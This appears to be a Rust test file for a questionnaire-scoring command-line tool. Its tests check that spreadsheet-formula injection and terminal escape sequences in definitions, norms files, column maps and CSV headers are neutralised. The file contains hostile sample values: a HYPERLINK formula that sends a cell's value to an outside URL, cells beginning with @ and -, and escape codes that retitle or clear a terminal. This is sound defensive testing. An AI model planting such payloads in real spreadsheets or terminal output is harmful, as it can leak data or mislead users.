//! Text that reaches a spreadsheet or a terminal from any source (a definition, a norms file, a
//! column map, the input's header) is neutralised: no cell a spreadsheet would run as a formula,
//! no escape sequence that would retitle or clear a terminal.

use crate::support::{read, root, screenscore, temp_dir};

/// GAD-2's definition with hostile text in its name, a band label, a rule id and a label.
fn hostile_definition() -> String {
    let text = read(&root().join("instruments/gad2.json"));
    let mut def: serde_json::Value = serde_json::from_str(&text).unwrap();
    def["name"] = "GAD-2 \u{1b}]0;pwned\u{7}\u{1b}[2J".into();
    def["scales"][0]["bands"] = serde_json::json!([
        { "from": 0, "label": "=HYPERLINK(\"http://example.com/\"&A2,\"low\")" },
        { "from": 3, "label": "@high" }
    ]);
    def["scales"][0]["band_source"] = serde_json::json!({ "ref": "test", "evidence": "authored" });
    def["rules"][0]["id"] = "-cmd".into();
    def["items"][0]["label"] = "Nervous \u{1b}[31mred\u{1b}[0m".into();
    def["status"] = "unvalidated".into();
    serde_json::to_string_pretty(&def).unwrap()
}

#[test]
fn text_from_a_definition_never_reaches_a_spreadsheet_as_a_formula() {
    let dir = temp_dir("injection-definition");
    let path = dir.join("gad2.json");
    std::fs::write(&path, hostile_definition()).unwrap();
    let path = path.display().to_string();
    let run = screenscore(&["score", "-i", &path], b"gad2_1,gad2_2\n0,1\n3,3\n");
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut rows = run.stdout.lines();
    assert_eq!(
        rows.next(),
        Some("gad2_total,gad2_total_band,gad2_status,gad2_flags,gad2_error,gad2_notes")
    );
    assert_eq!(
        rows.next(),
        Some(
            "1,\"'=HYPERLINK(\"\"http://example.com/\"\"&A2,\"\"low\"\")\",ok,,,UNVALIDATED instrument: not for clinical decisions"
        )
    );
    assert_eq!(
        rows.next(),
        Some("6,'@high,ok,'-cmd,,UNVALIDATED instrument: not for clinical decisions")
    );
}

#[test]
fn text_from_a_norms_file_never_reaches_a_spreadsheet_as_a_formula() {
    let dir = temp_dir("injection-norms");
    let intake = "gad2_1,gad2_2\n0,1\n3,3\n1,2\n2,2\n";
    let built = screenscore(&["norms", "-i", "gad2"], intake.as_bytes());
    assert_eq!(built.code, 0, "{}", built.stderr);
    let mut norms: serde_json::Value = serde_json::from_str(&built.stdout).unwrap();
    norms["scales"]["total"]["id"] = "-local".into();
    let path = dir.join("norms.json");
    std::fs::write(&path, norms.to_string()).unwrap();
    let path = path.display().to_string();
    let run = screenscore(
        &["score", "-i", "gad2", "--norms", &path, "--standard"],
        intake.as_bytes(),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let norm = crate::support::cell(&run.stdout, 0, "gad2_total_norm");
    assert_eq!(norm, "'-local");
}

/// Whatever a person reads on the terminal shows escape sequences as text.
#[test]
fn escape_sequences_are_shown_escaped_in_every_message() {
    let dir = temp_dir("escapes");
    let path = dir.join("gad2.json");
    std::fs::write(&path, hostile_definition()).unwrap();
    let path = path.display().to_string();
    let raw_escape = |text: &str| text.contains('\u{1b}') || text.contains('\u{7}');

    // A definition's name and labels in `instruments show`, and its notice in `score`.
    let show = screenscore(&["instruments", "show", &path], b"");
    assert_eq!(show.code, 0, "{}", show.stderr);
    assert!(!raw_escape(&show.stdout), "{}", show.stdout);
    assert!(
        show.stdout
            .contains("GAD-2 \\u{1b}]0;pwned\\u{7}\\u{1b}[2J")
    );
    assert!(show.stdout.contains("Nervous \\u{1b}[31mred\\u{1b}[0m"));

    // A header name in a warning.
    let run = screenscore(
        &["score", "-i", "gad2"],
        b"gad2_1,gad2_2,gad2_\x1b]0;pwned\x07\n1,2,x\n",
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(!raw_escape(&run.stderr), "{}", run.stderr);
    insta::assert_snapshot!(run.stderr, @r"
    warning: gad2: column gad2_\u{1b}]0;pwned\u{7} is named like its columns but is not its items; it passes through as read
    1 row read: 1 scored, 0 incomplete, 0 invalid, 0 absent
    ");

    // A column map's entries in an error.
    let map = dir.join("map.csv");
    std::fs::write(&map, "from,to\n\u{1b}[2J,gad2_1\nx,gad2_1\n").unwrap();
    let run = screenscore(
        &["score", "-i", "gad2", "--map", &map.display().to_string()],
        b"gad2_1,gad2_2\n1,2\n",
    );
    assert_eq!(run.code, 2);
    assert!(!raw_escape(&run.stderr), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("`x` and `\\u{1b}[2J` are both renamed to `gad2_1`"),
        "{}",
        run.stderr
    );

    // A definition's problems name its ids as written.
    let bad = dir.join("bad.json");
    std::fs::write(
        &bad,
        hostile_definition().replace("\"id\": \"gad2\"", "\"id\": \"x\\u001b[2J\""),
    )
    .unwrap();
    let run = screenscore(&["instruments", "check", &bad.display().to_string()], b"");
    assert_eq!(run.code, 2);
    assert!(!raw_escape(&run.stderr), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("`x\\u{1b}[2J` is not a valid instrument id"),
        "{}",
        run.stderr
    );
}
